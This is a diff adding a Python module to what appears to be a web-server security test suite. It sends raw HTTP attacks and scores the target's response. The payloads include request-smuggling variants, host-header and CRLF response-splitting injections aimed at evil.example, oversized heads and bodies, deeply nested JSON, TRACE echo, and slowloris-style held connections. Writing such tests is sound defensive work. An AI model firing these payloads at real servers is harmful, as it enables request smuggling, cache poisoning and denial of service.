@@ -1,0 +1,338 @@
+"""The wire: bytes that two readers take for different requests, and requests that never end.
+
+All of it is bounded: a dozen connections, some seconds, some megabytes.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+import socket
+import time
+from collections.abc import Iterable, Mapping
+
+from authref.attacks.client import Answer
+from authref.attacks.scene import Group, NotPlayed, Outcome, Scene, has_a_session, judge, judge_each, must
+
+WIRE = Group("wire", has_a_session)
+attack = WIRE.attack
+
+CONNECTIONS = 12  # of a slow client
+SLOW = 21  # seconds after which a server should have had enough of one
+HUGE = 8 << 20  # bytes
+
+
+def ask(
+    scene: Scene, head: str, body: str = "", line: str = "GET {me} HTTP/1.1", host: str = "Host: {host}\r\n"
+) -> Answer:
+    """The answer to a request of Alice's that has these lines, written as they are, in its head."""
+    me = scene.routes.me.partition(" ")[2]
+    cookie = f"Cookie: {scene.routes.cookie}={scene.alice_session.cookies[scene.routes.cookie]}\r\n"
+    names = {"{me}": me, "{host}": scene.target.address.named}
+    text = f"{line}\r\n{host}{cookie}Connection: close\r\n{head}\r\n{body}"
+    for name, value in names.items():
+        text = text.replace(name, value)
+    return scene.client().raw(text.encode("latin-1"), timeout=3)
+
+
+def ask_each(scene: Scene, tried: Mapping[str, tuple[str, str]]) -> Outcome:
+    """What comes of requests with these heads and bodies: whatever is taken for one is through."""
+    must(scene, ask(scene, ""), "the same request, written plainly")
+    return judge_wire((what, ask(scene, head, body)) for what, (head, body) in tried.items())
+
+
+def judge_wire(answers: Iterable[tuple[str, Answer]]) -> Outcome:
+    """As judge_each: through is what the server took for a request of Alice's. Closing at once is a refusal here."""
+    cases = []
+    for what, answer in answers:
+        shown = answer if answer.status else Answer(answer.request, 400)  # it hung up: nobody was served
+        cases.append((what, shown, 200 <= answer.status < 300))
+    return judge_each(cases)
+
+
+@attack(
+    20, has="a proxy before the server", gains="a request of theirs in somebody else's connection",
+    counts="a request with two lengths of two kinds is taken", read="serving/reader.py:_body_length",
+    tiny="tiny.py:Handler.do_GET", wstg="INPV-15", asvs="4.2.1", cwe=444, exercise="body-length",
+)  # fmt: skip
+def length_and_chunks(scene: Scene) -> Outcome:
+    """Content-Length and Transfer-Encoding in one request: smuggling"""
+    chunks = "0\r\n\r\n"
+    return ask_each(
+        scene,
+        {
+            "both": ("Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", chunks),
+            "both, the other way round": ("Transfer-Encoding: chunked\r\nContent-Length: 5\r\n", chunks),
+            "an odd coding": ("Content-Length: 5\r\nTransfer-Encoding: xchunked\r\n", chunks),
+            "a blank before the colon": ("Content-Length: 5\r\nTransfer-Encoding : chunked\r\n", chunks),
+            "a tab in the value": ("Content-Length: 5\r\nTransfer-Encoding:\tchunked\r\n", chunks),
+            "identity": ("Content-Length: 5\r\nTransfer-Encoding: identity\r\n", chunks),
+        },
+    )
+
+
+@attack(
+    20, has="a proxy before the server", gains="the same", counts="a request with two lengths is taken",
+    read="serving/reader.py:_join_repeated", tiny="tiny.py:Handler.do_GET", wstg="INPV-15", asvs="4.2.1", cwe=444,
+    exercise="body-length",
+)  # fmt: skip
+def two_lengths(scene: Scene) -> Outcome:
+    """Two lengths in one request"""
+    return ask_each(
+        scene,
+        {
+            "two that differ": ("Content-Length: 4\r\nContent-Length: 0\r\n", "null"),
+            "the other way round": ("Content-Length: 0\r\nContent-Length: 4\r\n", "null"),
+            "in one line": ("Content-Length: 4, 5\r\n", "null "),
+        },
+    )
+
+
+@attack(
+    20, has="a proxy before the server", gains="the same", counts="a length that is no plain number is taken",
+    read="serving/reader.py:_body_length", tiny="tiny.py:Handler.do_GET", wstg="INPV-15", asvs="4.2.1", cwe=444,
+    exercise="body-length",
+)  # fmt: skip
+def odd_length(scene: Scene) -> Outcome:
+    """A length with a sign, an underscore, or of another base"""
+    values = ("+4", "4_0", "0x4", "04", "4.0", "1e1", "\xb2", '"4"')
+    return ask_each(scene, {value: (f"Content-Length: {value}\r\n", "null" + " " * 40) for value in values})
+
+
+@attack(
+    20, has="a proxy before the server", gains="the same", counts="an odd chunk is read as a body",
+    read="serving/reader.py:Reader._take_chunks", tiny="tiny.py:Handler.do_GET", wstg="INPV-15", asvs="4.2.1", cwe=444,
+)  # fmt: skip
+def odd_chunks(scene: Scene) -> Outcome:
+    """Chunks with an odd size, an extension, a trailer or an odd line end"""
+    head = "Transfer-Encoding: chunked\r\n"
+    whole = ask(scene, head, "4\r\nnull\r\n0\r\n\r\n")
+    if not 200 <= whole.status < 300 or not scene_reads_chunks(scene):
+        raise NotPlayed("the server reads no chunked bodies")
+    return ask_each(
+        scene,
+        {
+            "0x": (head, "0x4\r\nnull\r\n0\r\n\r\n"),
+            "a sign": (head, "+4\r\nnull\r\n0\r\n\r\n"),
+            "a line feed alone": (head, "4\nnull\r\n0\r\n\r\n"),
+            "overflow": (head, "100000004\r\nnull\r\n0\r\n\r\n"),
+            "a longer chunk": (head, "4\r\nnullx\r\n0\r\n\r\n"),
+            "a trailer": (head, "4\r\nnull\r\n0\r\nContent-Length: 9\r\n\r\n"),
+            "an extension": (head, "4;x=y\r\nnull\r\n0\r\n\r\n"),
+        },
+    )
+
+
+def scene_reads_chunks(scene: Scene) -> bool:
+    """True if a login in chunks succeeds: a server that passes the coding over reads no body at all."""
+    body = json.dumps(scene.fields(scene.alice))
+    path = scene.routes.log_in.partition(" ")[2]
+    text = (
+        f"POST {path} HTTP/1.1\r\nHost: {scene.target.address.named}\r\nConnection: close\r\n"
+        f"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n{len(body):x}\r\n{body}\r\n0\r\n\r\n"
+    )
+    return scene.succeeded(scene.client().raw(text.encode()))
+
+
+@attack(
+    20, has="a cache or a gate before the server", gains="an answer under a name of their choice",
+    counts="a request with two names is taken", read="serving/reader.py:_join_repeated", tiny="tiny.py:Handler.do_GET",
+    wstg="INPV-17", asvs="4.2.1", cwe=444,
+)  # fmt: skip
+def two_hosts(scene: Scene) -> Outcome:
+    """Two hosts in one request, or none, or another in the line"""
+    must(scene, ask(scene, ""), "the same request, written plainly")
+    answers = {
+        "two": ask(scene, "Host: evil.example\r\n"),
+        "none": ask(scene, "", host=""),
+        "in the line": ask(scene, "", line="GET http://evil.example{me} HTTP/1.1"),
+    }
+    return judge_wire(answers.items())
+
+
+@attack(
+    20, has="a proxy before the server", gains="a field that one of the two does not see",
+    counts="a folded line is taken", read="serving/reader.py:_read_fields", tiny="tiny.py:Handler.do_GET",
+    wstg="INPV-15", asvs="4.2.1", cwe=444,
+)  # fmt: skip
+def folded_line(scene: Scene) -> Outcome:
+    """A header line that goes on in the next: obs-fold"""
+    return ask_each(
+        scene,
+        {
+            "a blank": ("X-Note: a\r\n b\r\n", ""),
+            "a tab": ("X-Note: a\r\n\tb\r\n", ""),
+            "at once": (" X-Note: a\r\n", ""),
+        },
+    )
+
+
+@attack(
+    20, has="a proxy before the server", gains="a second field or request that one of the two does not see",
+    counts="another line end than CR LF is taken", read="serving/reader.py:_FIELD", tiny="tiny.py:Handler.do_GET",
+    wstg="INPV-15", asvs="4.2.1", cwe=93, exercise="split-response",
+)  # fmt: skip
+def bare_line_end(scene: Scene) -> Outcome:
+    """A line that ends with LF alone, or holds a CR"""
+    return ask_each(
+        scene,
+        {
+            "LF": ("X-Note: a\nX-Other: b\r\n", ""),
+            "CR": ("X-Note: a\rX-Other: b\r\n", ""),
+            "LF at the end": ("X-Note: a\r\n\n", ""),
+        },
+    )
+
+
+@attack(
+    20, has="a proxy before the server", gains="a value that ends earlier for one of the two",
+    counts="a control character in a field is taken", read="serving/reader.py:_FIELD", tiny="tiny.py:Handler.do_GET",
+    wstg="INPV-15", asvs="4.2.1", cwe=20,
+)  # fmt: skip
+def odd_field(scene: Scene) -> Outcome:
+    """A NUL in a field, no name, a blank before the colon"""
+    return ask_each(
+        scene,
+        {
+            "NUL": ("X-Note: a\0b\r\n", ""),
+            "no name": (": a\r\n", ""),
+            "no colon": ("X-Note\r\n", ""),
+            "a blank before the colon": ("X-Note : a\r\n", ""),
+            "ESC": ("X-Note: \x1b[2J\r\n", ""),
+        },
+    )
+
+
+@attack(
+    20, has="a field that is echoed", gains="a header, or an answer, of their own", read="wire.py:write_response",
+    counts="what was sent stands in a header of the answer", tiny="tiny.py:Handler.do_GET", wstg="INPV-15",
+    asvs="1.2.1", cwe=113, exercise="split-response",
+)  # fmt: skip
+def split_response(scene: Scene) -> Outcome:
+    """A line end in what is echoed begins another header"""
+    evil = "x\r\nX-Evil: yes\r\n\r\n"
+    client, routes = scene.client(), scene.routes
+    path = routes.me.partition(" ")[2]
+    answers = [
+        scene.post(client, routes.log_in, {routes.email: evil, routes.password: evil}),
+        client.send(f"GET {path}?x=%0d%0aX-Evil:%20yes"),
+        client.send("GET /%0d%0aX-Evil:%20yes"),
+        client.send("GET //evil.example/%2e%2e"),
+        client.send(routes.me, headers={"Origin": "x%0d%0aX-Evil: yes"}),
+    ]
+    if routes.sign_up:
+        fields = {routes.email: f"a@b.example{evil}", routes.password: "correct horse " + evil}
+        answers.append(scene.post(client, routes.sign_up, fields))
+    found = [
+        answer
+        for answer in answers
+        if answer.header("x-evil") or re.search(r"evil\.example", answer.header("location"))
+    ]
+    return judge(found[0] if found else must_tell(answers), bool(found), f"{len(answers)} fields")
+
+
+def must_tell(answers: list[Answer]) -> Answer:
+    """One of them that a guard may have made."""
+    return next((each for each in answers if each.status in (400, 401, 403)), answers[0])
+
+
+@attack(
+    20, has="a connection", gains="the server's memory", counts="a head of megabytes is read to its end",
+    read="serving/reader.py:_refuse_oversize", tiny="tiny.py:Handler.do_GET", wstg="BUSL-09", asvs="13.1.2", cwe=770,
+)  # fmt: skip
+def huge_head(scene: Scene) -> Outcome:
+    """A head of a megabyte, or of ten thousand fields"""
+    return ask_each(
+        scene, {"a long field": (f"X-Note: {'a' * (1 << 20)}\r\n", ""), "many fields": ("X-Note: a\r\n" * 10_000, "")}
+    )
+
+
+@attack(
+    20, has="a connection", gains="the server's memory", counts="a body of megabytes is read to its end",
+    read="serving/reader.py:_body_length", tiny="tiny.py:Handler.do_GET", wstg="BUSL-09", asvs="13.1.2", cwe=770,
+    exercise="body-length",
+)  # fmt: skip
+def huge_body(scene: Scene) -> Outcome:
+    """A body of megabytes for a login"""
+    answer = scene.client().send(scene.routes.log_in, b" " * HUGE + b"null")
+    sent = scene.travelled
+    del sent[-2:]  # nobody wants to read that
+    if answer.status in (0, 413):
+        return Outcome(False, f"{HUGE >> 20} MB: {answer.status or 'it hung up'}")
+    return judge(answer, True, f"{HUGE >> 20} MB read")
+
+
+@attack(
+    20, has="a few kilobytes", gains="that the server falls over them", counts="no answer comes, or a 5xx",
+    read="wire.py:read_json", tiny="tiny.py:Handler.do_GET", wstg="INPV-12", asvs="16.5.3", cwe=674,
+)  # fmt: skip
+def deep_json(scene: Scene) -> Outcome:
+    """JSON in JSON in JSON, twenty thousand deep"""
+    scene.must_take_json()
+    answer = scene.client().send(scene.routes.log_in, b"[" * 20_000)
+    fell = answer.status == 0 or answer.status >= 500
+    return Outcome(fell, f"{answer.request}: {answer.status or 'no answer'}")
+
+
+@attack(
+    20, has="a script on our page", gains="the cookie that it may not read", counts="the request is echoed",
+    read="serving/reader.py:METHODS", tiny="tiny.py:Handler.do_GET", wstg="CONF-06", asvs="13.4.4", cwe=693,
+)  # fmt: skip
+def trace(scene: Scene) -> Outcome:
+    """TRACE echoes what scripts may not see"""
+    answer = scene.client().send("TRACE /", headers={"X-Note": "echo-of-mine"})
+    return Outcome(b"echo-of-mine" in answer.body, f"TRACE: {answer.status or 'no answer'}")
+
+
+def held_open(scene: Scene, data: bytes, each_second: bytes) -> Outcome:
+    """How many of a dozen slow connections are still open after so many seconds."""
+    must(scene, scene.me(scene.alice_session), "an honest session")
+    client = scene.client()
+    socks = [client.connect() for _ in range(CONNECTIONS)]
+    open_now = CONNECTIONS
+    try:
+        for sock in socks:
+            sock.sendall(data)
+            sock.settimeout(0.01)
+        end = time.monotonic() + SLOW
+        while time.monotonic() < end and open_now:
+            time.sleep(1)
+            open_now = sum(_still_open(sock, each_second) for sock in socks)
+    finally:
+        for sock in socks:
+            sock.close()
+    return Outcome(open_now > 0, f"{open_now} of {CONNECTIONS} still open after {SLOW} s" if open_now else "all closed")
+
+
+def _still_open(sock: socket.socket, data: bytes) -> bool:
+    try:
+        sock.sendall(data)
+        sock.recv(4096)  # an answer, or the end: either way the server has had enough
+    except TimeoutError:
+        return True
+    except OSError:
+        pass
+    return False
+
+
+@attack(
+    20, has="one laptop", gains="all places of the server", counts="a connection is held by a byte a second", slow=True,
+    read="serving/server.py:STATES", tiny="tiny.py:main", wstg="BUSL-09", asvs="13.1.2", cwe=400,
+)  # fmt: skip
+def slow_head(scene: Scene) -> Outcome:
+    """A head that comes a byte a second: slowloris"""
+    return held_open(scene, b"GET / HTTP/1.1\r\nHost: " + scene.target.address.named.encode() + b"\r\nX-Note: ", b"a")
+
+
+@attack(
+    20, has="one laptop", gains="all places of the server", counts="a connection is held by a byte a second", slow=True,
+    read="serving/server.py:STATES", tiny="tiny.py:main", wstg="BUSL-09", asvs="13.1.2", cwe=400,
+)  # fmt: skip
+def slow_body(scene: Scene) -> Outcome:
+    """A body that comes a byte a second"""
+    method, _, path = scene.routes.log_in.partition(" ")
+    head = (
+        f"{method} {path} HTTP/1.1\r\nHost: {scene.target.address.named}\r\nContent-Type: application/json\r\n"
+        "Content-Length: 1000\r\n\r\n"
+    )
+    return held_open(scene, head.encode(), b" ")
